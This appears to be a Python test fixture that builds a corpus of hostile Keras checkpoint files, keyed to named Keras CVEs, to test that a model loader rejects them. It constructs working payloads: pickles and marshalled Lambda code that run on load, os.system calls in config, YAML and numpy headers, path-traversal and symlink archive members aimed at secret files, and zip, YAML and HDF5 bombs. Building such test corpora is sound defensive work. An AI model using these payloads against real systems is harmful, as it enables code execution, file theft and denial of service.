"""Hostile checkpoints, built in code: each is one way to make a loader run code, read other files or run out of memory.

`CORPUS` lists them by name. Those of a published flaw of Keras's loading name it; what the advisories say:

- CVE-2024-3660, CVE-2026-12481: marshalled code in a `Lambda` layer; the second where no safe mode is set.
- CVE-2025-1550: `config.json` names any function of any module with its arguments.
- CVE-2025-8747, CVE-2025-9906: that again, by way of Keras's own functions (`get_file`, `enable_unsafe_deserialization`).
- CVE-2025-9905: a legacy HDF5 model, for which the safe mode is ignored.
- CVE-2025-12058: the vocabulary of a `StringLookup` is any file or URL.
- CVE-2025-12060, CVE-2025-12638: archives with members outside of their folder.
- CVE-2025-49655: a pickle in a `TorchModuleWrapper`.
- CVE-2026-0897, CVE-2026-12570: HDF5 arrays of a huge shape and hardly any bytes.
- CVE-2026-1462: a `TFSMLayer` names a SavedModel.
- CVE-2026-1669: HDF5 external storage and links.
- CVE-2026-12479: layer names with `../` become paths of assets.
- CVE-2026-12480: a description was not available; the nearest class is another store of weights in the archive
  (`model.weights.npz`, a list of shards), which Keras chooses by what is there.
- Flaws mended without a number: HDF5 virtual arrays, soft links half way, bombs as members, as shapes in `.npz`, symlinks.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import marshal
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import h5py
import numpy as np

GOLDEN = Path(__file__).parent.parent / "golden" / "mlp.keras"
SPEC, STATE, WEIGHTS = "deepcli/config.yaml", "deepcli/state.npz", "model.weights.h5"
SCHEMA = "deepcli/schema.json"
OURS = (SPEC, STATE, SCHEMA)
Members = dict[str, bytes]


@dataclass(frozen=True)
class Case:
    """One hostile file: what writes it, and whether only the model built from its spec can tell."""

    write: Callable[[Path], None]
    late: bool = False


CORPUS: dict[str, Case] = {}
CANARIES = ("ran", "secret.txt", "secret.h5")


def golden() -> Members:
    with zipfile.ZipFile(GOLDEN) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(members: Members | list[tuple[str | zipfile.ZipInfo, bytes]], how: dict[str, int] | None = None) -> bytes:
    """Pack members as `save` does: ours deflated, Keras's stored."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items() if isinstance(members, dict) else members:
            kind = (how or {}).get(str(name), zipfile.ZIP_DEFLATED if name in OURS else zipfile.ZIP_STORED)
            archive.writestr(name, content, kind)
    return out.getvalue()


def case(name: str, late: bool = False):
    """Add a file to the corpus. The function gets the golden members and a folder of canaries, and returns bytes."""

    def add(build):
        def write(path: Path) -> None:
            made = build(golden(), path.parent)
            path.write_bytes(zipped(made) if isinstance(made, dict) else made)

        assert name not in CORPUS, name
        CORPUS[name] = Case(write, late)
        return build

    return add


# Code in Keras's own config.json, as an attacker would send it to users of Keras -------------------------------------


def touch(folder: Path) -> str:
    return f"open({str(folder / 'ran')!r}, 'w').close()"


def lambda_layer(folder: Path) -> dict:
    code = base64.b64encode(marshal.dumps(compile(f"lambda x: {touch(folder)}", "x", "eval"))).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "evil", "function": function}}


def keras_config(folder: Path) -> dict[str, dict]:
    """The layer, by the number of the flaw that lets it through."""

    def function(module: str, name: str, /, **arguments: object) -> dict:
        return {"module": module, "class_name": name, "registered_name": name, "config": arguments}

    secret = str(folder / "secret.txt")
    torch = base64.b64encode(pickle.dumps(Touch(str(folder / "ran")))).decode()
    return {
        "CVE-2024-3660": lambda_layer(folder),
        "CVE-2025-1550": function("os", "system", command=f"touch {folder / 'ran'}"),
        "CVE-2025-8747": function("keras.utils", "get_file", origin=f"file://{secret}", fname="x"),
        "CVE-2025-9906": {
            "class_name": "Sequential",
            "config": {"layers": [function("keras.config", "enable_unsafe_deserialization"), lambda_layer(folder)]},
        },
        "CVE-2025-12058": function("keras.layers", "StringLookup", vocabulary=secret),
        "CVE-2025-49655": function("keras.layers", "TorchModuleWrapper", module=torch),
        "CVE-2026-1462": function("keras.layers", "TFSMLayer", filepath=str(folder), call_endpoint="serve"),
        "CVE-2026-12479": function("keras.layers", "Dense", name="../../../evil", units=1),
        "CVE-2026-12481": {"class_name": "Functional", "config": {"layers": [lambda_layer(folder)]}},
    }


class Touch:
    """A pickle that leaves a file behind where it is loaded."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return open, (self.path, "w")


def _model(flaw: str):
    @case(f"{flaw} in a model of Keras's")
    def build(members: Members, folder: Path):
        model = {"class_name": "Sequential", "config": {"layers": [keras_config(folder)[flaw]]}}
        return {
            "metadata.json": members["metadata.json"],
            "config.json": json.dumps(model).encode(),
            WEIGHTS: members[WEIGHTS],
        }


for _flaw in keras_config(Path()):
    _model(_flaw)


@case("CVE-2025-9905 a legacy HDF5 model")
def _(members, folder):
    return hdf5(lambda file: file.attrs.update(model_config=json.dumps(lambda_layer(folder)), keras_version="2.15.0"))


@case("CVE-2025-12060 a tar with a member outside")
def _(members, folder):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        info = tarfile.TarInfo("../ran")
        info.size = 1
        archive.addfile(info, io.BytesIO(b"x"))
    return out.getvalue()


@case("a pickle")
def _(members, folder):
    return pickle.dumps(Touch(str(folder / "ran")))


# The zip file -------------------------------------------------------------------------------------------------------


def _spare(name: str, *more: str, flaw: str = "", content: bytes = b"x"):
    @case(f"{flaw} a member named {name!r}".strip())
    def build(members, folder):
        return {**members, **dict.fromkeys((name, *more), content)}


for _name in ("../ran", "/tmp/ran", "..\\ran", "assets/../../ran", "model.weights.npz", "__init__.py", "config.json/"):
    _spare(_name)
_spare("assets/../../../evil/x", flaw="CVE-2026-12479")
_spare(
    "model.weights.json", "model_00000.weights.h5", flaw="CVE-2026-12480", content=b'{"weight_map": {"/": "../x.h5"}}'
)


@case("npz weights in the place of HDF5")
def _(members, folder):
    members["model.weights.npz"] = npz({"0": npy("<f4", (1 << 40,), b"")})
    del members[WEIGHTS]
    return members


@case("empty")
def _(members, folder):
    return b""


@case("text")
def _(members, folder):
    return b"import os; os.system('touch ran')\n"


@case("gzip")
def _(members, folder):
    return gzip.compress(zipped(members))


@case("something before the zip")
def _(members, folder):
    return b"#!/bin/sh\ntouch ran\nexit\n" + zipped(members)


@case("a script with a zip that knows of it")
def _(members, folder):
    out = io.BytesIO(b"#!/bin/sh\ntouch ran\nexit\n")
    with zipfile.ZipFile(out, "a") as archive:
        for name, content in members.items():
            archive.writestr(name, content, zipfile.ZIP_DEFLATED if name in OURS else zipfile.ZIP_STORED)
    return out.getvalue()


def _zip64(name: str, place: int):
    @case(f"zip64: {name}")
    def build(members, folder):
        """All as it should be but for one byte."""
        content = bytearray(zipped(members))
        end = len(content) - 22
        length, offset = struct.unpack_from("<2L", content, end + 12)
        record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 5, 5, length, offset)
        content[end:end] = record + struct.pack("<4sLQL", b"PK\6\7", 0, end, 1)
        content[end + place] += 1
        return bytes(content)


_zip64("a record of another kind", 3)
_zip64("a record elsewhere", 56 + 8)
_zip64("several disks", 56 + 16)
_zip64("other disks", 16)


@case("something after the zip")
def _(members, folder):
    return zipped(members) + b"\0" * 100


@case("another zip after the zip")
def _(members, folder):
    return zipped({**members, SPEC: b""}) + zipped(members)


@case("a comment")
def _(members, folder):
    out = io.BytesIO(zipped(members))
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"PK\5\6" + b"\0" * 18
    return out.getvalue()


@case("cut short")
def _(members, folder):
    return zipped(members)[:-1]


@case("a directory of 200,000 members")
def _(members, folder):
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"x"
    directory = entry * 200_000
    start = b"PK\3\4" + b"\0" * 26
    return start + directory + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 5, 5, len(directory), len(start), 0)


@case("a directory of an exabyte")
def _(members, folder):
    content = zipped(members)
    end = len(content) - 22
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 5, 5, 1 << 60, 0)
    return content[:end] + record + struct.pack("<4sLQL", b"PK\6\7", 0, end, 1) + content[end:]


def _sparse(path: Path) -> None:
    size = 64 << 30
    with path.open("wb") as file:
        file.write(b"PK\3\4")
        file.truncate(size)
        file.seek(0, 2)
        file.write(struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 5, 5, size - 4, 4))
        file.write(struct.pack("<4sLQL", b"PK\6\7", 0, size, 1))
        file.write(struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 5, 5, 0xFFFFFFFF, 0xFFFFFFFF, 0))


CORPUS["a sparse file of 64 GiB that is all directory"] = Case(_sparse)


def patched(content: bytes, member: str, field: int, form: str, value: int, local: bool = False) -> bytes:
    """Change a number in a member's entry of the directory, or in its own header."""
    changed = bytearray(content)
    at = content.rindex(member.encode(), 0, None) - 46 if not local else content.index(member.encode()) - 30
    struct.pack_into(form, changed, at + field, value)
    return bytes(changed)


PATCHES = {
    "weights of 100 GiB in the directory": (WEIGHTS, 24, "<L", 0xFFFFFFF0),
    "a state of 4 GiB in the directory": (STATE, 24, "<L", 0xFFFFFFF0),
    "a spec of 4 GiB in the directory": (SPEC, 24, "<L", 0xFFFFFFF0),
    "a member past the end": (WEIGHTS, 42, "<L", 0xFFFFFF00),
    "a member in the place of another": (WEIGHTS, 42, "<L", 0),
    "encrypted weights": (WEIGHTS, 8, "<H", 1),
    "an encrypted spec": (SPEC, 8, "<H", 0x41),
    "a wrong checksum of the spec": (SPEC, 16, "<L", 12345),
    "a wrong checksum of the state": (STATE, 16, "<L", 12345),
    "weights said to be deflated": (WEIGHTS, 10, "<H", 8),
    "a spec said to be of another method": (SPEC, 10, "<H", 97),
    "a symlink": (SPEC, 38, "<L", 0o120777 << 16),
    "a named pipe": (STATE, 38, "<L", 0o010600 << 16),
    "a set-user-id file": (WEIGHTS, 38, "<L", 0o104755 << 16),
    "a folder": (WEIGHTS, 38, "<L", 0x10),
}


def _patch(name: str):
    @case(f"zip: {name}")
    def build(members, folder):
        return patched(zipped(members), *PATCHES[name])


for _name in PATCHES:
    _patch(_name)


@case("a symlink to a secret")
def _(members, folder):
    link = zipfile.ZipInfo(SPEC)
    link.external_attr = 0o120777 << 16
    others = [(name, content) for name, content in members.items() if name != SPEC]
    return zipped([*others, (link, str(folder / "secret.txt").encode())])


@case("the spec twice")
def _(members, folder):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return zipped([*members.items(), (SPEC, members[SPEC])])


@case("a bomb as the spec")
def _(members, folder):
    return {**members, SPEC: bytes(100 << 20)}


@case("a bomb as the state")
def _(members, folder):
    return {**members, STATE: bytes(100 << 20)}


@case("a bomb as the weights")
def _(members, folder):
    return zipped({**members, WEIGHTS: bytes(100 << 20)}, {WEIGHTS: zipfile.ZIP_DEFLATED})


@case("a bomb as config.json")
def _(members, folder):
    return zipped({**members, "config.json": bytes(100 << 20)}, {"config.json": zipfile.ZIP_DEFLATED})


@case("weights packed with LZMA")
def _(members, folder):
    return zipped(members, {WEIGHTS: zipfile.ZIP_LZMA})


@case("a spec packed with bzip2")
def _(members, folder):
    return zipped(members, {SPEC: zipfile.ZIP_BZIP2})


# The spec -----------------------------------------------------------------------------------------------------------


def _spec(name: str, change: Callable[[bytes, Path], bytes]):
    @case(f"spec: {name}")
    def build(members, folder):
        return {**members, SPEC: change(members[SPEC], folder)}


def _layer(text: str) -> Callable[[bytes, Path], bytes]:
    model = "data: digits\nmodel: {type: sequential, layers: [flatten, %s]}\n"
    return lambda spec, folder: (model % text.replace("SECRET", str(folder / "secret.txt"))).encode()


_spec("a Python object", lambda spec, folder: b"data: !!python/object/apply:os.system [touch ran]\nmodel: mlp\n")
_spec("a Python name", lambda spec, folder: b"data: digits\nmodel: !!python/name:os.system\n")
_spec("CVE-2024-3660 lambda", _layer("{type: lambda, function: 'lambda x: x'}"))
_spec("CVE-2026-12481 Lambda", _layer("{type: Lambda, config: {}}"))
_spec("CVE-2025-12058 string_lookup", _layer("{type: string_lookup, vocabulary: 'SECRET'}"))
_spec("CVE-2026-1462 tfsm_layer", _layer("{type: tfsm_layer, filepath: 'SECRET'}"))
_spec("CVE-2025-49655 torch_module_wrapper", _layer("{type: torch_module_wrapper, module: 'SECRET'}"))
_spec("CVE-2025-1550 a function", _layer("{type: dense, units: 3, activation: {module: os, class_name: system}}"))
_spec("a plugin named in it", lambda spec, folder: spec + b"plugins: [os]\n")
_spec("aliases that grow", lambda spec, folder: _billion())
_spec("too deep", lambda spec, folder: b"a: " + b"[" * 60_000)
_spec("deep", lambda spec, folder: b"a: " + b"{" * 9_000)
_spec("many lists", lambda spec, folder: b"a: [" + b"[]," * 9_990 + b"]")
_spec("too deep, in blocks", lambda spec, folder: b"".join(b" " * n + b"-\n" for n in range(300)))
_spec("no text", lambda spec, folder: bytes(range(256)))
_spec("a list", lambda spec, folder: b"- data\n")
_spec("empty", lambda spec, folder: b"")
_spec("a huge number", lambda spec, folder: spec.replace(b"seed: 0", b"seed: " + b"9" * 40_000))
_spec("signs that a terminal obeys", lambda spec, folder: spec + b'"\\e]0;owned\\a\\e[2J": 1\n')
_spec("longer than any", lambda spec, folder: spec + b"#" * 70_000)


def _billion() -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    return "\n".join(lines).encode()


# The state ----------------------------------------------------------------------------------------------------------

PLAIN = {"position": {"epoch": 1, "step": 0, "total": 2}, "precision": "float32", "threads": 1, "plugins": [],
         "best": {}, "callbacks": {}}  # fmt: skip


def npy(kind: str, shape: tuple[int, ...], content: bytes, header: str | None = None) -> bytes:
    text = header or f"{{'descr': {kind!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    packed = text.encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(packed)) + packed + content


def npz(arrays: dict[str, bytes], kind: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind) as archive:
        for name, content in arrays.items():
            archive.writestr(f"{name}.npy", content)
    return out.getvalue()


def state(text: bytes | dict = PLAIN, kind: int = zipfile.ZIP_STORED, **arrays: bytes) -> bytes:
    packed = text if isinstance(text, bytes) else json.dumps(text).encode()
    return npz({"json": npy("|u1", (len(packed),), packed), **arrays}, kind)


STATES: dict[str, Callable[[Path], bytes]] = {
    "no zip": lambda folder: b"x" * 100,
    "a pickle": lambda folder: pickle.dumps(Touch(str(folder / "ran"))),
    "an array of pickles": lambda folder: state(a=npy("|O", (1,), pickle.dumps(Touch(str(folder / "ran"))))),
    "no JSON": lambda folder: npz({"a": npy("<f4", (1,), b"1234")}),
    "an array of half an exabyte": lambda folder: state(a=npy("<f4", (1 << 30, 1 << 27), b"")),
    "an array of 2 GiB in zeros": lambda folder: state(a=npy("<f4", (1 << 29,), bytes(1 << 20))),
    "an array of overflowing shape": lambda folder: state(a=npy("<f8", (1 << 32, 1 << 29), b"")),
    "an array of empty rows": lambda folder: state(a=npy("<f4", (0, 1 << 62), b"")),
    "an array of structures": lambda folder: state(a=npy("", (), b"", "{'descr': [('a', '<f4', (9999999,))]}")),
    "a header that is code": lambda folder: state(a=npy("", (), b"", f"__import__('os').system({touch(folder)!r})")),
    "a header that is deep": lambda folder: state(a=npy("", (), b"", "(" * 9000)),
    "a header to match for ever": lambda folder: state(a=npy("", (), b"", "{'descr': '<f4', 'fortran_order': False, "
                                                           f"'shape': ({'1' * 9000}!")),
    "a bomb inside": lambda folder: state(PLAIN, zipfile.ZIP_DEFLATED, a=npy("<f4", (1 << 24,), bytes(1 << 26))),
    "members that share bytes": lambda folder: _sharing(),
    "many members": lambda folder: npz(dict.fromkeys(map(str, range(20_000)), b"")),
    "JSON too deep": lambda folder: state(b"[" * 1_000_000),
    "JSON too long": lambda folder: state(b"[" + b"{}," * 3_000_000 + b"{}]"),
    "JSON of numbers": lambda folder: state(b"[" + b"0," * 8_000_000 + b"0]"),
    "JSON of lists": lambda folder: state(b"[" + b"[]," * 2_700_000 + b"[]]"),
    "JSON no text": lambda folder: state(bytes(range(256))),
    "a number too long": lambda folder: state(b'{"position": ' + b"9" * 100_000 + b"}"),
    "a missing field": lambda folder: state({key: PLAIN[key] for key in PLAIN if key != "plugins"}),
    "a field of its own": lambda folder: state({**PLAIN, "hook": "os.system"}),
    "a list": lambda folder: state([1]),  # type: ignore[arg-type]
}  # fmt: skip
FIELDS: dict[str, list] = {
    "position": [None, {}, {"epoch": -1, "step": 0, "total": 0}, {"epoch": True, "step": 0, "total": 0},
                 {"epoch": 10**30, "step": 0, "total": 0}, {"epoch": 1.5, "step": 0, "total": 0},
                 {"epoch": 1, "step": 0, "total": 0, "self": 1}],
    "precision": [None, 3, "float64", "../../x", ["float32"]],
    "threads": [None, -1, "4", True],
    "weights": ["mean", 1, {}, ["raw"]],
    "plugins": ["os", [1], ["\x1b[2J"], [""], {"os": 1}],
    "best": [None, {"epoch": "1"}, {"epoch": -1}, {"epoch": 0}, {"value": "x"}, {"epoch": 1, "value": [[[]]]}],
    "rollbacks": [None, [1], [{"step": 1}], [{"reason": "", "step": 1, "back_to": 0}],
                  [{"reason": "x", "step": 1.5, "back_to": 0}]],
    "callbacks": [None, [], {"history": []}, {"history": {"rows": 3}}, {"history": {"rows": [3]}},
                  {"history": {"rows": [{"loss": "x"}]}}, {"early_stopping": {"wait": -1}},
                  {"early_stopping": {"wait": "x", "best": None}}, {"plateau": {"best": {}}}],
}  # fmt: skip


def _sharing() -> bytes:
    """Many entries for one stored member; each alone is honest."""
    body = npy("|u1", (1 << 20,), bytes(1 << 20))
    content = npz({"json": body})
    end = len(content) - 22
    offset = struct.unpack_from("<L", content, end + 16)[0]
    directory = content[offset:end] * 1000
    return (
        content[:offset] + directory + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1000, 1000, len(directory), offset, 0)
    )


def _state(name: str, build_state: Callable[[Path], bytes]):
    @case(f"state: {name}")
    def build(members, folder):
        return {**members, STATE: build_state(folder)}


def _changed(name: str, value: object, folder: Path) -> bytes:
    return state({**PLAIN, name: value})


for _name, _build in STATES.items():
    _state(_name, _build)
for _name, _values in FIELDS.items():
    for _value in _values:
        _state(f"{_name} {_value!a}"[:70], partial(_changed, _name, _value))
_state("not a number", lambda folder: state(json.dumps({**PLAIN, "best": {"value": float("nan")}}).encode()))
_state(
    "infinity",
    lambda folder: state(json.dumps({**PLAIN, "best": {"value": 1}}).replace(": 1}", ": 1e999}", 1).encode()),
)


# The schema ----------------------------------------------------------------------------------------------------------

OWN_SPEC = b"data: {type: table, path: /nowhere/rows.csv, target: y}\nmodel: {type: mlp, hidden_units: [8]}\n"
NUMBER = {"name": "x", "type": "number"}
OWN_SCHEMA = {"source": "table", "kind": "features", "shape": [1], "target": {"names": ["a", "b"]}, "columns": [NUMBER],
              "counts": {"train": 9}}  # fmt: skip
SCHEMAS: dict[str, Callable[[Path], bytes | dict]] = {
    "no JSON": lambda folder: b"x" * 100,
    "no text": lambda folder: bytes(range(256)),
    "a list": lambda folder: b"[]",
    "a bomb": lambda folder: bytes(100 << 20),
    "JSON too deep": lambda folder: b"[" * 1_000_000,
    "an endless text": lambda folder: b'"' + b"\\" * (17 << 20),
    "millions of words": lambda folder: b'{"vocabulary": [' + b'"",' * 10_000_000 + b'""]}',
    "millions of numbers": lambda folder: b'{"vocabulary": [' + b"1," * 1_900_000 + b"1]}",
    "millions of columns": lambda folder: b'{"columns": [' + b"{}," * 900_000 + b"{}]}",
    "20,001 columns": lambda folder: {"shape": [20_001], "columns": [NUMBER] * 20_001},
    "20,000 columns of many categories": lambda folder: {
        "shape": [20_000],
        "columns": [{"name": str(k), "type": "category", "categories": ["a"] * 200} for k in range(20_000)],
    },
    "millions of splits": lambda folder: {"counts": {f"s{k}": -1 for k in range(1_900_000)}},
    "a layout of millions": lambda folder: {"layout": {"a": [[]] * 900_000}},
    "a field of its own": lambda folder: {"hook": "os.system"},
    "an image of petabytes": lambda folder: {"kind": "image", "shape": [1 << 30, 1 << 30, 3], "columns": []},
    "a text of gigabytes": lambda folder: {
        "kind": "tokens",
        "shape": [1 << 30],
        "vocabulary": ["", "<start>", "<unknown>", ""],
    },
    "a size beyond any": lambda folder: b'{"shape": [' + b"9" * 4000 + b"]}",
    "a scale of nothing": lambda folder: {"columns": [{**NUMBER, "scale": 0}]},
    "an infinite mean": lambda folder: json.dumps(OWN_SCHEMA).replace('"number"', '"number", "mean": 1e999').encode(),
    "names that a terminal obeys": lambda folder: {"source": "\x1b]0;owned\x07"},
    "another number of columns": lambda folder: {"shape": [7]},
    "a column twice": lambda folder: {"shape": [2], "columns": [NUMBER, NUMBER]},
    "frequencies of other categories": lambda folder: {
        "columns": [{"name": "x", "type": "category", "categories": ["a", "b"], "frequencies": [3]}]
    },
    "a column of pictures": lambda folder: {"columns": [{"name": "x", "type": "image"}]},
    "one class": lambda folder: {"target": {"names": ["a"]}},
    "a class twice": lambda folder: {"target": {"names": ["a", "a"]}},
    "numbers without a name": lambda folder: {"target": {"kind": "numbers"}},
    "other statistics": lambda folder: {"target": {"kind": "numbers", "names": ["a"], "means": [1.0, 2.0]}},
    "images without a column": lambda folder: {"kind": "image", "shape": [8, 8, 1], "columns": []},
    "texts without words": lambda folder: {"kind": "tokens", "shape": [8], "columns": [{"name": "x", "type": "text"}]},
    "words without a start": lambda folder: {"kind": "tokens", "shape": [8], "vocabulary": ["a"]},
    "of other data": lambda folder: {"source": "image_folder"},
    "a delimiter that is a list": lambda folder: {"layout": {"delimiter": ["os"]}},
    "a kind of its own": lambda folder: {"kind": "pickle"},
}


def _schema(name: str, build_schema: Callable[[Path], bytes | dict]):
    @case(f"schema: {name}")
    def build(members, folder):
        made = build_schema(folder)
        content = made if isinstance(made, bytes) else json.dumps({**OWN_SCHEMA, **made}).encode()
        return {**members, SPEC: OWN_SPEC, SCHEMA: content}


for _name, _build_schema in SCHEMAS.items():
    _schema(_name, _build_schema)


@case("schema: none, so that files of this machine would be looked at")
def _(members, folder):
    return {**members, SPEC: OWN_SPEC.replace(b"/nowhere/rows.csv", str(folder / "secret.txt").encode())}


@case("schema: of a textbook set with other sizes")
def _(members, folder):
    schema = {**OWN_SCHEMA, "source": "digits", "kind": "image", "shape": [9, 9, 1], "columns": []}
    return {**members, SCHEMA: json.dumps(schema).encode()}


# The weights --------------------------------------------------------------------------------------------------------


def hdf5(change: Callable[[h5py.File], object], start: bytes | None = None) -> bytes:
    stream = io.BytesIO(golden()[WEIGHTS] if start is None else start)
    with h5py.File(stream, "r+" if start != b"" else "w") as file:
        change(file)
    return stream.getvalue()


def _weights(name: str, change: Callable[[h5py.File, Path], object], late: bool = False):
    @case(f"weights: {name}", late)
    def build(members, folder):
        return {**members, WEIGHTS: hdf5(lambda file: change(file, folder))}


FIRST = "layers/dense/vars/0"


def _replaced(make: Callable[[h5py.Group, str, Path], object], late: bool = False):
    def change(file, folder):
        group, _, name = FIRST.rpartition("/")
        del file[FIRST]
        make(file[group], name, folder)

    return change


def _assign(value: object) -> Callable[[h5py.Group, str, Path], object]:
    return lambda group, name, folder: group.__setitem__(name, value)


def _unallocated(group, name, folder):
    space = h5py.h5s.create_simple((1 << 40,))
    plan = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    plan.set_alloc_time(h5py.h5d.ALLOC_TIME_LATE)
    h5py.h5d.create(group.id, name.encode(), h5py.h5t.IEEE_F32LE, space, plan)


def _virtual(group, name, folder):
    layout = h5py.VirtualLayout((8, 8), "f4")
    layout[:] = h5py.VirtualSource(str(folder / "secret.h5"), "x", (8, 8))
    group.create_virtual_dataset(name, layout)


def _unlimited(group, name, folder):
    layout = h5py.VirtualLayout((8, 8), "f4", maxshape=(None, 8))
    source = h5py.VirtualSource(str(folder / "secret.h5"), "x", (8, 8), maxshape=(None, 8))
    layout[: h5py.h5s.UNLIMITED] = source[: h5py.h5s.UNLIMITED]
    group.create_virtual_dataset(name, layout)


def _compact(group, name, folder):
    plan = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    plan.set_layout(h5py.h5d.COMPACT)
    h5py.h5d.create(group.id, name.encode(), h5py.h5t.IEEE_F32LE, h5py.h5s.create_simple((4,)), plan)


def _many(file, folder):
    group = file.create_group("many")
    for number in range(11_000):
        group.create_group(str(number))


def _deep(file, folder):
    group = file
    for _ in range(100):
        group = group.create_group("x")


EXTERNAL = {"shape": (64, 8), "dtype": "f4"}
_weights(
    "CVE-2026-1669 an external link",
    _replaced(lambda g, n, folder: g.__setitem__(n, h5py.ExternalLink(str(folder / "secret.h5"), "x"))),
)
_weights(
    "CVE-2026-1669 a group behind an external link",
    lambda file, folder: (
        file.__delitem__("layers/dense"),
        file["layers"].__setitem__("dense", h5py.ExternalLink(str(folder / "secret.h5"), "/")),
    ),
)
_weights(
    "CVE-2026-1669 external storage",
    _replaced(lambda g, n, folder: g.create_dataset(n, external=[(str(folder / "secret.txt"), 0, 2048)], **EXTERNAL)),
)
_weights(
    "CVE-2026-0897 a shape bomb",
    _replaced(lambda g, n, folder: g.create_dataset(n, (1 << 40,), "f4", compression="gzip", chunks=(1 << 20,))),
)
_weights("CVE-2026-12570 a huge shape without bytes", _replaced(_unallocated))
_weights("a virtual array", _replaced(_virtual))
_weights("a virtual array without limit", _replaced(_unlimited))
_weights("a soft link", _replaced(lambda g, n, folder: g.__setitem__(n, h5py.SoftLink("/layers/dense/vars/1"))))
_weights("a soft link half way", lambda file, folder: file.__setitem__("layers/x", h5py.SoftLink("/layers")))
_weights("a dangling link", lambda file, folder: file.__setitem__("x", h5py.SoftLink("/nowhere")))
_weights("a group in itself", lambda file, folder: file["layers"].__setitem__("again", file["layers"]))
_weights("the root in a group", lambda file, folder: file["layers"].__setitem__("again", file["/"]))
_weights("an array under two names", lambda file, folder: file.__setitem__("again", file[FIRST]))
_weights("chunks", _replaced(lambda g, n, folder: g.create_dataset(n, (64, 8), "f4", chunks=(8, 8))))
_weights("a filter", _replaced(lambda g, n, folder: g.create_dataset(n, data=np.ones((64, 8)), shuffle=True)))
_weights("a compact array", _replaced(_compact))
_weights("words", _replaced(_assign("x" * 100)))
_weights("words of fixed length", _replaced(_assign(np.array([b"abc"]))))
_weights("structures", _replaced(_assign(np.zeros(3, [("a", "f4"), ("b", "i4")]))))
_weights("truth values", _replaced(_assign(np.array([True]))))
_weights("complex numbers", _replaced(_assign(np.array([1j]))))
_weights("opaque bytes", _replaced(_assign(np.void(b"abc"))))
_weights("rows of any length", _replaced(lambda g, n, f: g.create_dataset(n, (2,), h5py.vlen_dtype("f4"))))
_weights("references", _replaced(lambda g, n, f: g.create_dataset(n, (2,), h5py.ref_dtype)))
_weights("nothing", _replaced(_assign(h5py.Empty("f4"))))
_weights("a named type", lambda file, folder: file.__setitem__("kind", np.dtype("f4")))
_weights("11,000 groups", _many)
_weights("a hundred levels", _deep)
_weights("a long attribute", lambda file, folder: file.attrs.__setitem__("x", np.bytes_(b"x" * 60_000)))
_weights("an attribute of numbers", lambda file, folder: file["layers"].attrs.__setitem__("x", np.arange(9.0)))
_weights("many attributes", lambda file, folder: [file.attrs.__setitem__(str(n), "x") for n in range(9)])
_weights("another shape", _replaced(_assign(np.zeros((64, 9), "f4"))), late=True)
_weights("a layer missing", lambda file, folder: file.__delitem__("layers/dense"), late=True)
_weights("an array missing", lambda file, folder: file.__delitem__(FIRST), late=True)
_weights("an array for a group", lambda file, folder: (
    file.__delitem__("layers/dense"), file.__setitem__("layers/dense", np.zeros(3, "f4"))), late=True)  # fmt: skip


@case("weights: arrays that share bytes")
def _(members, folder):
    """A small array whose shape, size and address are changed to be those of a large one."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["large"], file["small"] = np.zeros(100_003, "f4"), np.ones(10_007, "f4")
        places = file["small"].id.get_offset(), file["large"].id.get_offset()
    content = stream.getvalue()
    for old, new in (places, (10_007, 100_003), (40_028, 400_012)):
        content = content.replace(struct.pack("<Q", old), struct.pack("<Q", new))
    return {**members, WEIGHTS: content}


@case("weights: cut short")
def _(members, folder):
    return {**members, WEIGHTS: members[WEIGHTS][:-1000]}


@case("weights: no HDF5")
def _(members, folder):
    return {**members, WEIGHTS: b"\x80\x04" + bytes(1000)}


@case("weights: empty")
def _(members, folder):
    return {**members, WEIGHTS: b""}


@case("weights: an array past the end")
def _(members, folder):
    with h5py.File(io.BytesIO(members[WEIGHTS]), "r") as file:
        place = struct.pack("<Q", file[FIRST].id.get_offset())
    return {**members, WEIGHTS: members[WEIGHTS].replace(place, struct.pack("<Q", 1 << 40))}


def write(folder: Path) -> dict[str, Path]:
    """Write the whole corpus and what it must not touch; return the files by name."""
    (folder / "secret.txt").write_bytes(bytes(4096))
    with h5py.File(folder / "secret.h5", "w") as file:
        file["x"] = np.zeros((64, 8), "f4")
        file["vars/0"] = np.zeros((64, 8), "f4")
    files = {}
    for number, (name, hostile) in enumerate(CORPUS.items()):
        files[name] = folder / f"{number:03}.keras"
        hostile.write(files[name])
    return files
